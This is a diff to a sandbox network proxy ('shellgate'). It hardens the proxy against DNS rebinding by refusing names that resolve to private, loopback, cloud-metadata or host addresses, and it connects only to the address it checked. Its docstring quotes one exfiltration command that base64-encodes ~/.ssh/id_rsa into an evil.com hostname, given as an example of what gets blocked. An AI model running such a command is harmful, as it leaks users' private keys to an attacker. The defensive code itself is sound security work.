@@ -9,9 +9,12 @@ http://$(cat ~/.ssh/id_rsa | base64).evil.com`` leaks nothing, not even a DNS
 query. A blocked request gets a 403 whose body names the domain and the
 setting that would allow it.
 
-Allowed names that resolve to loopback, link-local (cloud metadata at
-169.254.169.254) or unspecified addresses are refused too: DNS rebinding
-must not turn an allowed domain into a door to the host's own services.
+Allowed names that resolve to a non-public address — loopback, private
+ranges (the host's own LAN address among them), link-local (cloud metadata
+at 169.254.169.254), reserved, multicast — are refused unless the policy
+sets ``allow_private_addresses``: DNS rebinding must not turn an allowed
+domain into a door to the host's own services. The connection then goes to
+the address that was checked, never to a second lookup of the name.
 """
 
 from __future__ import annotations
@@ -26,6 +29,13 @@ from dataclasses import dataclass
 
 from .policy import NetworkPolicy
 
+#: Private-use ranges: where internal services live (RFC 1918, carrier-grade
+#: NAT, IPv6 unique local). Documentation ranges are not in it: nothing
+#: listens there.
+_PRIVATE_NETWORKS = tuple(
+    ipaddress.ip_network(n)
+    for n in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "100.64.0.0/10", "fc00::/7")
+)
 _MAX_HEAD = 65536
 _HEAD_TIMEOUT = 30.0
 _CONNECT_TIMEOUT = 15.0
@@ -41,9 +51,11 @@ class ProxyEvent:
     reason: str
 
 
-def blocked_body(host: str, reason: str) -> str:
-    return (
-        f"shellgate sandbox: connection to {host} blocked ({reason}).\n"
+def blocked_body(host: str, reason: str, *, allowable: bool = True) -> str:
+    head = f"shellgate sandbox: connection to {host} blocked ({reason}).\n"
+    if not allowable:
+        return head + "Addresses of the host and its private networks are never reachable.\n"
+    return head + (
         f'To allow it, add "{host}" to sandbox.network.allowedDomains in your settings, '
         f"or pass --allow-domain {host} to shellgate run.\n"
     )
@@ -194,16 +206,23 @@ class DomainProxy:
                                    "shellgate proxy: use CONNECT or an absolute http:// URL\n"))
             return
         allowed, reason = self.network.decide(host)
-        if allowed and self.block_local_targets:
-            allowed, reason = await self._address_ok(host, port, reason)
+        connect_to = host
+        allowable = True
+        if allowed:
+            address, problem = await self._resolve(host, port)
+            if problem is not None:
+                allowed, reason, allowable = False, problem, False
+            else:
+                connect_to = address
         self._record(host, port, allowed, reason)
         if not allowed:
-            writer.write(_response("403 Forbidden", blocked_body(host, reason)))
+            body = blocked_body(host, reason, allowable=allowable)
+            writer.write(_response("403 Forbidden", body))
             await writer.drain()
             return
         try:
             up_reader, up_writer = await asyncio.wait_for(
-                asyncio.open_connection(host, port), _CONNECT_TIMEOUT
+                asyncio.open_connection(connect_to, port), _CONNECT_TIMEOUT
             )
         except (OSError, TimeoutError) as exc:
             writer.write(_response("502 Bad Gateway", f"shellgate proxy: {host}:{port}: {exc}\n"))
@@ -219,18 +238,48 @@ class DomainProxy:
         await asyncio.gather(_pipe(reader, up_writer), _pipe(up_reader, writer),
                              return_exceptions=True)
 
-    async def _address_ok(self, host: str, port: int, reason: str) -> tuple[bool, str]:
+    async def _resolve(self, host: str, port: int) -> tuple[str, str | None]:
+        """One lookup: (address to connect to, None) or ("", why refused).
+        Every address the name has must be public, so a resolver cannot
+        answer public for the check and private for the connection."""
         loop = asyncio.get_running_loop()
         try:
             infos = await loop.getaddrinfo(host, port, type=socket.SOCK_STREAM)
         except OSError as exc:
-            return False, f"cannot resolve {host}: {exc}"
-        for info in infos:
-            address = ipaddress.ip_address(info[4][0])
-            if (address.is_loopback or address.is_link_local or address.is_unspecified
-                    or address.is_multicast):
-                return False, f"{host} resolves to local address {address}"
-        return True, reason
+            return "", f"cannot resolve {host}: {exc}"
+        if not infos:
+            return "", f"cannot resolve {host}"
+        if self.block_local_targets:
+            private_ok = self.network.allow_private_addresses
+            own = _host_addresses()
+            for info in infos:
+                address = ipaddress.ip_address(info[4][0])
+                if isinstance(address, ipaddress.IPv6Address) and address.ipv4_mapped:
+                    address = address.ipv4_mapped
+                local = (address.is_loopback or address.is_link_local or address.is_unspecified
+                         or address.is_multicast or address in own)
+                private = any(address in net for net in _PRIVATE_NETWORKS)
+                if local or (private and not private_ok):
+                    return "", f"{host} resolves to non-public address {address}"
+        return str(infos[0][4][0]), None
+
+
+def _host_addresses() -> set[ipaddress.IPv4Address | ipaddress.IPv6Address]:
+    """This machine's own interface addresses (public ones included)."""
+    out: set[ipaddress.IPv4Address | ipaddress.IPv6Address] = set()
+    with contextlib.suppress(OSError):
+        for info in socket.getaddrinfo(socket.gethostname(), None):
+            with contextlib.suppress(ValueError):
+                out.add(ipaddress.ip_address(str(info[4][0]).split("%")[0]))
+    with contextlib.suppress(ImportError, OSError):
+        import psutil  # noqa: PLC0415
+
+        for addrs in psutil.net_if_addrs().values():
+            for a in addrs:
+                if a.family in (socket.AF_INET, socket.AF_INET6):
+                    with contextlib.suppress(ValueError):
+                        out.add(ipaddress.ip_address(a.address.split("%")[0]))
+    return out
 
 
 async def _pipe(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
